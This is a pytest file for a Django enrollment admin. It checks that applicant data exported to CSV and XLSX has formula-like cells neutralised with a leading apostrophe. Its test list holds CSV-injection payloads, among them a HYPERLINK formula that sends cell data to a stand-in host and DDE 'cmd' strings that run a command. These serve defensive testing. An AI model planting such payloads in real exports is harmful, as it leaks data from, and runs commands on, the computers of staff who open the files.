"""What an applicant types never becomes a live formula in staff's spreadsheets (CSV injection).

The applicant chooses their own name: exported as typed, ``=HYPERLINK(...)`` or ``+cmd|...``
would run when staff open the file. Every text cell a spreadsheet would read as a formula starts
with an apostrophe; a phone number and plain text stay as they were.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from enrollment.models import ApplicationStatus
from partners.models import Convention
from tests.factories import (
    ApplicantProfileFactory,
    ApplicationFactory,
    ConventionFactory,
    SessionFactory,
    StaffUserFactory,
)
from tests.helpers import run_action

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:enrollment_application_export")
CONVENTIONS = reverse("admin:partners_convention_changelist")
CSV_FORMAT, XLSX_FORMAT = "0", "1"

HOSTILE_NAMES = [
    '=HYPERLINK("https://pirate.test/?d="&A1,"Voir le dossier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
]
PHONE = "+262639000000"  # stored in E.164; the spaced form is checked in tests/core/test_spreadsheets.py


@pytest.fixture
def admin_client_(client):
    client.force_login(StaffUserFactory())
    return client


@pytest.fixture
def hostile_applications():
    convention = ConventionFactory(reference="CONV-2026-077", state=Convention.State.SIGNED)
    session = SessionFactory(reference="S-2026-FORMULES")
    for index, last_name in enumerate(HOSTILE_NAMES):
        profile = ApplicantProfileFactory(
            last_name=last_name,
            first_name="Agent",
            phone=PHONE,
            job_title="=1+1" if index == 0 else "Secrétaire",
            employer=convention.partner,
        )
        ApplicationFactory(
            session=session,
            applicant=profile.user,
            channel="partenaire",
            convention=convention,
            status=ApplicationStatus.ENROLLED,
        )
    return convention


def _csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(response):
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows()]


def _assert_neutralised(values: list[str]) -> None:
    for name in HOSTILE_NAMES:
        assert "'" + name in values, name
        assert name not in values, name
    assert not [value for value in values if value[:1] in ("=", "+", "-", "@", "\t", "\r") and value != PHONE]


def test_the_applications_csv_export_quotes_formulas(admin_client_, hostile_applications):
    rows = _csv_cells(admin_client_.post(EXPORT, {"format": CSV_FORMAT, "resource": "0"}))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_NAMES)
    _assert_neutralised([value for row in body for value in row])
    last_names = [row[header.index("Nom")] for row in body]
    assert sorted(last_names) == sorted("'" + name for name in HOSTILE_NAMES)
    assert {row[header.index("Téléphone")] for row in body} == {PHONE}


def test_the_applications_xlsx_export_has_no_formula_cell(admin_client_, hostile_applications):
    rows = _xlsx_cells(admin_client_.post(EXPORT, {"format": XLSX_FORMAT, "resource": "0"}))
    cells = [cell for row in rows for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [value for value in values if value.startswith("=")]
    _assert_neutralised([cell.value for row in rows[1:] for cell in row if isinstance(cell.value, str)])
    header = [cell.value for cell in rows[0]]
    assert {row[header.index("Téléphone")].value for row in rows[1:]} == {PHONE}


def test_the_convention_staff_list_quotes_formulas_in_csv_and_xlsx(admin_client_, hostile_applications):
    rows = _csv_cells(run_action(admin_client_, CONVENTIONS, "export_staff_csv", [hostile_applications]))
    values = [value for row in rows[1:] for value in row]
    _assert_neutralised(values)
    assert "'=1+1" in values  # the job title too

    sheet = _xlsx_cells(run_action(admin_client_, CONVENTIONS, "export_staff_xlsx", [hostile_applications]))
    cells = [cell for row in sheet for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    _assert_neutralised([cell.value for row in sheet[1:] for cell in row if isinstance(cell.value, str)])
